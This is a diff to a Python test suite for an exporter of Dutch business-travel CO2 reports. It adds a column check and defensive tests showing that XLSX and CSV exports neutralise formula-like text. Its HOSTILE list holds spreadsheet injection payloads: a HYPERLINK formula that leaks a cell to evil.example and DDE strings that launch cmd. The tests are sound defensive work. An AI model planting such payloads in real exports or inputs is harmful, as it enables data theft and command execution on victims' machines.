@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import csv
 import io
+import zipfile
 from datetime import UTC, date, datetime
 from pathlib import Path
 
@@ -116,7 +117,7 @@ def test_trips_sheet_has_one_row_per_trip_cell_by_cell() -> None:
         "Vliegtuig km", "Vliegtuig kg CO2e", "Trein km", "Trein kg CO2e", "Bus km",
         "Bus kg CO2e", "Auto km", "Auto kg CO2e", "Veerboot km", "Veerboot kg CO2e",
         "Totaal km", "Totaal kg CO2e", "Emissielijst", "8-uursregel van toepassing",
-        "Toelichting", "Gemarkeerd", "Verslag-id",
+        "Toelichting", "Gemarkeerd", "Treinreis (bot en reiziger)", "Verslag-id",
     ]  # fmt: skip
     assert len(data) == 3
     vienna, berlin, paris = data  # by departure: April, 2 June, 10 June
@@ -127,13 +128,18 @@ def test_trips_sheet_has_one_row_per_trip_cell_by_cell() -> None:
     assert vienna[9] == 1919 and vienna[10] == pytest.approx(1919 * 0.172)
     assert vienna[11:19] == [0, 0, 0, 0, 0, 0, 0, 0]
     assert vienna[19] == 1919 and vienna[20] == pytest.approx(330.068)
-    assert vienna[21:] == ["co2emissiefactoren-2025", "nee", None, "nee", "voorbeeld-wenen-2025"]
+    assert vienna[21:] == [
+        "co2emissiefactoren-2025", "nee", None, "nee", "Wenen: ca. 12 u 30 volgens de bot",
+        "voorbeeld-wenen-2025",
+    ]  # fmt: skip
     assert berlin[4] == 2.0  # afternoon out, morning back: 3 - 0,5 - 0,5
     assert berlin[7:9] == [3, "trein, bus"]
     assert berlin[11:15] == [1950, 0, 1950, pytest.approx(202.8)]
     assert berlin[19:21] == [3900, pytest.approx(202.8)]
     assert paris[4] == 1.0
     assert paris[22:25] == ["ja", "Het scheelt reistijd.", "ja"]
+    assert paris[25] == "Parijs: ca. 3 u 30 volgens de bot"
+    assert berlin[25] is None  # nobody flew
 
 
 def test_trips_sheet_styling_formats_and_frozen_header() -> None:
@@ -192,7 +198,7 @@ def test_csv_is_semicolon_separated_utf8_with_bom_and_decimal_commas() -> None:
     content = export_csv(REPORTS)
     assert content.startswith(b"\xef\xbb\xbf")
     table = list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
-    assert table[0][0] == "Reiziger" and len(table[0]) == 26
+    assert table[0][0] == "Reiziger" and len(table[0]) == 27
     vienna = table[1]
     assert vienna[:9] == [
         "J. de Vries", "Digitale Stad", "27-04-2025", "29-04-2025", "2,5",
@@ -224,3 +230,54 @@ def test_cli_export_reads_the_store(tmp_path: Path, monkeypatch: pytest.MonkeyPa
     out = tmp_path / "overzicht.txt"
     assert main(["export", "--year", "2025", "--out", str(out), "--format", "csv"]) == 0
     assert out.read_bytes() == export_csv(REPORTS)
+
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Jan")',
+    "+31 70 353 3000",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def hostile_report(text: str, index: int) -> Report:
+    """The Paris flight with `text` typed as name, department, place and justification."""
+    place = Place(name=text, country="Frankrijk", country_code="FR", latitude=48.85, longitude=2.35)
+    return paris_flight().model_copy(
+        update={
+            "report_id": f"hostile-{index}",
+            "traveller": Traveller(name=text, department=text),
+            "destinations": [place],
+            "justification": text,
+        }
+    )
+
+
+def test_xlsx_keeps_formula_like_text_as_text_in_every_sheet() -> None:
+    raw = export_xlsx([hostile_report(text, i) for i, text in enumerate(HOSTILE)], 2025)
+    book = load_workbook(io.BytesIO(raw))
+    seen: list[object] = []
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
+                if cell.value in HOSTILE:
+                    assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
+                    seen.append(cell.value)
+    assert set(seen) == set(HOSTILE)  # shown exactly as typed, not altered
+    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
+        sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")]
+    assert sheets and not any(b"<f>" in xml or b"<f " in xml for xml in sheets)
+
+
+def test_csv_prefixes_formula_like_text_with_a_quote_the_owasp_rule() -> None:
+    content = export_csv([hostile_report(text, i) for i, text in enumerate(HOSTILE)])
+    table = list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
+    for row in table[1:]:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+    names = sorted(row[0] for row in table[1:])
+    assert names == sorted(f"'{text}" for text in HOSTILE)
+    assert table[1][9:11] != [] and not table[1][10].startswith("'")  # numbers stay numbers
